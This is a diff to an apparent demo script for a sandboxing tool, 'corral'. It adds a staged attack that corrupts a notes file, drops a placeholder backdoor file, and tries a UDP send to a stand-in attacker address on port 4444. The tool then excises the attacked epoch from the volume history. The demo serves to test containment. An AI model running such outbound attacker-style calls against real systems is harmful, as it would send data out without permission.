@@ -120,11 +120,37 @@ in_ns "$CORRAL" verify notes
 bold "   and a manual revert, for good measure (the archive keeps the delta for forensics)"
 in_ns "$CORRAL" revert notes --reason "demo"
 
-bold "9. corral down: processes, delta, mounts and cgroups go; the volume stays"
+bold "9. The redo log: an attack in the MIDDLE of the volume's history, dug out"
+post() { in_ns python3 -c 'import sys, urllib.request as u; u.urlopen(u.Request("http://127.0.0.1:8080/notes", data=sys.argv[1].encode()), timeout=5).read()' "$1"; }
+post "good note before the attack"
+echo "  closed epoch $(in_ns "$CORRAL" state mark notes --note "good so far")"
+echo "  the attacker corrupts the notes and plants a backdoor in the volume, then is caught:"
+in_ns "$CORRAL" exec notes app -- /usr/bin/python3.11 -u -I -c '
+import socket, time
+open("/srv/notes/notes.jsonl", "a").write("{\"text\": \"CORRUPTED BY THE ATTACKER\"}\n")
+open("/srv/notes/backdoor.py", "w").write("# the attacker was here")
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.10", 4444))
+except OSError as exc:
+    print(f"  attacker: {exc.strerror}")
+time.sleep(5)
+' || true
+sleep 0.5
+post "good note after the attack"
+echo "  closed epoch $(in_ns "$CORRAL" state mark notes --note "more good work")"
+in_ns "$CORRAL" state log notes
+bad=$(in_ns "$CORRAL" state log notes --json | python3 -c 'import json, sys; d = json.load(sys.stdin); vols = d["volumes"] if isinstance(d, dict) and "volumes" in d else d; epochs = vols[0]["epochs"] if isinstance(vols, list) and vols and "epochs" in vols[0] else vols; print([e["id"] for e in epochs if e.get("incidents")][-1])')
+bold "   corral down, then excise epoch $bad (the attack's stretch): later good work is kept"
 in_ns "$CORRAL" down notes
+in_ns "$CORRAL" state excise notes --from "$bad" --to "$bad"
+ls "$CORRAL_ROOT/var/lib/corral/notes/volumes/srv-notes/"
+cat "$CORRAL_ROOT/var/lib/corral/notes/volumes/srv-notes/notes.jsonl"
+in_ns "$CORRAL" state check notes
+
+bold "10. After corral down: no process, delta, mount or cgroup is left; the volume stays"
 in_ns "$CORRAL" status notes
 
-bold "10. corral uninstall --purge: the host is as it was"
+bold "11. corral uninstall --purge: the host is as it was"
 in_ns "$CORRAL" uninstall notes --purge
 cmp /etc/passwd /tmp/corral-demo-passwd.before && echo "/etc/passwd byte-identical"
 rm -f /tmp/corral-demo-passwd.before
